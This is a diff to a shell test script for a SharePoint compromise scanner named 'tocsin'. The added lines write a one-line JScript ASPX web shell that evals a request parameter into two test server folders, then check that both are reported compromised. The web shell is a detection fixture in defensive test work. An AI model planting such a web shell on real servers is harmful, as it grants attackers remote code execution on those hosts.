@@ -52,6 +52,12 @@ run "$tocsin" scan --json --host EX01 "$tap_work/c"
 ok '--host over the folders of several servers is warned of' err_has 'folders name several servers (EXA, EXB)'
 run "$tocsin" scan --json --host EX01 "$tap_work/c/EXA"
 ok 'and not over one of them' sh -c "! grep -q several '$tap_work/err'"
+for name in EXA EXB; do
+    mkdir -p "$tap_work/d/given/$name/Web Server Extensions/16/TEMPLATE/LAYOUTS"
+    echo '<%@ Page Language="JScript"%><%eval(Request.Item["inert"],"unsafe");%>' >"$tap_work/d/given/$name/Web Server Extensions/16/TEMPLATE/LAYOUTS/a.aspx"
+done
+run "$tocsin" scan --json "$tap_work/d/given"
+ok "a copy of SharePoint's folder is of the folder above it" are "$(printf 'EXA compromised\nEXB compromised')"
 run "$tocsin" scan --help
 ok '--help says what --host does' out_has 'one host for everything in the run'
 tap_done
